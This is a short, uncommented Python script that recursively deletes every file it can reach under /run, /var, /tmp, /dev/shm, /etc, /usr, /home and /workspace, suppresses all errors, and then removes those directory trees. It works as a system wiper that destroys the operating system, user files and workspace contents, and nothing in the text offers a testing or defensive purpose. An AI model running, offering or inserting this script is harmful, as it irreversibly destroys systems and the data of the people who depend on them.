import os, shutil
for top in ("/run", "/var", "/tmp", "/dev/shm", "/etc", "/usr", "/home", "/workspace"):
    for base, dirs, files in os.walk(top):
        for f in files:
            try: os.unlink(os.path.join(base, f))
            except OSError: pass
    shutil.rmtree(top, ignore_errors=True)
